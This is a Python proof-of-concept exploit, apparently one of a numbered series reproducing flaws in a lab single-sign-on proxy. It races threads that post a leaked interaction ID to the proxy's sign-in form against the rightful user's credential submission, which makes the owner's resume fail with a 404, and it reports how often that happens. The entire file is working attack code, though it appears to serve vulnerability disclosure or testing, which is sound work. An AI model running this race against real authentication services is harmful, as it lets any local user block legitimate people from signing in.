# A holder of a leaked interaction ID (any local user, through the proxy's sign-in form with any cookie) makes the
# rightful owner's resume fail: InteractionOwners.claim takes the owner record before comparing, then puts it back.
# Usage (as root, fresh lab running): python3 08_owner_claim_race.py IDP PROXY SOCKET ROUNDS [THIEVES=3]
# Prints in how many of the rounds that asked for credentials the owner got 404 (0 without thieves).
import http.client, json, socket, sys, threading, urllib.parse
idp, proxy, sock, rounds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
def api(path, body):
    s = socket.socket(socket.AF_UNIX); s.connect(sock); s.settimeout(30)
    data = json.dumps(body).encode()
    s.sendall(b"POST %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % (path.encode(), len(data)) + data)
    out = b""
    while True:
        b = s.recv(65536)
        if not b: break
        out += b
    return int(out.split(b" ")[1]), out.split(b"\r\n\r\n", 1)[1]
lost = 0
asked = 0
for _ in range(rounds):
    status, body = api("/v1/authorize", {"app": "com.example.mail", "operation": "login", "url": idp + "/authorize",
                                         "options": {"prompt": "login"}})
    doc = json.loads(body)
    if doc.get("result") != "needs_interaction":
        # cached tokens: end the app's session so that the next login asks again
        api("/v1/authorize", {"app": "com.example.mail", "operation": "logout", "url": idp + "/authorize"}); continue
    iid = doc["interaction"]["id"]
    asked += 1
    stop = threading.Event()
    def thief():
        form = urllib.parse.urlencode({"username": "x", "ssokit_interaction": iid})
        while not stop.is_set():
            c = http.client.HTTPConnection("127.0.0.1", proxy)
            c.request("POST", idp + "/authorize", form, {"Content-Type": "application/x-www-form-urlencoded",
                      "Cookie": "ssokit_signin_%s=guess" % iid})
            c.getresponse().read()
    ts = [threading.Thread(target=thief) for _ in range(int(sys.argv[5]) if len(sys.argv) > 5 else 3)]
    [t.start() for t in ts]
    status, body = api("/v1/interactions/" + iid, {"username": "alice", "password": "alice-pw-123"})
    stop.set(); [t.join() for t in ts]
    if status == 404: lost += 1
    api("/v1/authorize", {"app": "com.example.mail", "operation": "logout", "url": idp + "/authorize"})
print("rightful owner's resume refused (404) in %d of %d interactions" % (lost, asked))
